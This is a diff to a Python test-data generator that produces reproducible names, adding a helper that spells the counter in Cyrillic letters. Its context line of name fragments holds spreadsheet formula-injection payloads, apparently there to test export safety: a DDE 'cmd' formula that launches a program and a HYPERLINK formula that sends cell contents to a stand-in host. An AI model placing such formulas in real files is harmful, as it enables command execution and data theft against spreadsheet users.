@@ -29,13 +29,18 @@ BODIES = ["cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", "HYPERLINK(\"http://x/?\"&A1
 WORDS = ["Ёлкина Жанна Юрьевна", "Щукин Эдуард Ильич", "Иванов", "Ъ Ы Ь", "<b>&amp;</b>", "%1 %2", "«да»"]
 
 
+def counted(number):
+    """A number in letters: a figure is no part of a name."""
+    return "".join("абвгдежзик"[int(digit)] for digit in str(number)).capitalize()
+
+
 def names(number):
     """Different ones, the same in every run."""
     rng = random.Random(number)
     found = {}
     while len(found) < number:
         start = rng.choice(EDGES if rng.random() < 0.05 else STARTS)
-        found[f"{start}{rng.choice(BODIES)} {rng.choice(WORDS)} {len(found)}"] = True
+        found[f"{start}{rng.choice(BODIES)} {rng.choice(WORDS)} {counted(len(found))}"] = True
     return list(found)
 
 
